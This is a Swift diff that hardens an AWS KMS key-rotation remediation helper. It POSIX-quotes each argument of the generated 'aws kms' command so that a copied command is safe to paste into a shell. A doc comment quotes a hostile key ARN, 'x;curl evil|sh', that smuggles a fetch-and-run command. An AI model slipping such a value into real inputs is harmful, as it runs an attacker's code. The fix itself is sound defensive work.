@@ -17,7 +17,8 @@ public struct Remediation: Sendable, Hashable, Codable {
     public var region: String?
     /// The rotation period to set; `nil` keeps AWS's default (365 days).
     public var rotationPeriodInDays: Int?
-    /// The equivalent AWS CLI command.
+    /// The equivalent AWS CLI command, each argument POSIX-quoted where it needs to be, so copying it into
+    /// a shell is safe whatever the key ARN holds.
     public var command: String
     /// A precondition or caveat a person should know before applying it.
     public var note: String?
@@ -29,9 +30,23 @@ public struct Remediation: Sendable, Hashable, Codable {
         self.region = region
         self.rotationPeriodInDays = rotationPeriodInDays
         self.note = note
-        var command = "aws kms enable-key-rotation --key-id \(keyArn)"
-        if let rotationPeriodInDays { command += " --rotation-period-in-days \(rotationPeriodInDays)" }
-        if let region { command += " --region \(region)" }
-        self.command = command
+        var arguments = ["aws", "kms", "enable-key-rotation", "--key-id", keyArn]
+        if let rotationPeriodInDays { arguments += ["--rotation-period-in-days", String(rotationPeriodInDays)] }
+        if let region { arguments += ["--region", region] }
+        self.command = arguments.map(Self.shellQuoted).joined(separator: " ")
+    }
+
+    /// An argument as a POSIX shell reads it back unchanged: as it is when it holds only characters no
+    /// shell treats specially (letters, digits and `@%_+=:,./-`, which covers every real key ARN and
+    /// Region), otherwise in single quotes with each `'` written `'\''`. A hostile ARN such as
+    /// `x;curl evil|sh` is then one inert argument when the command is copied into a shell.
+    static func shellQuoted(_ argument: String) -> String {
+        let safe = !argument.isEmpty && argument.unicodeScalars.allSatisfy { scalar in
+            switch scalar {
+            case "a"..."z", "A"..."Z", "0"..."9", "@", "%", "_", "+", "=", ":", ",", ".", "/", "-": return true
+            default: return false
+            }
+        }
+        return safe ? argument : "'" + argument.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
     }
 }
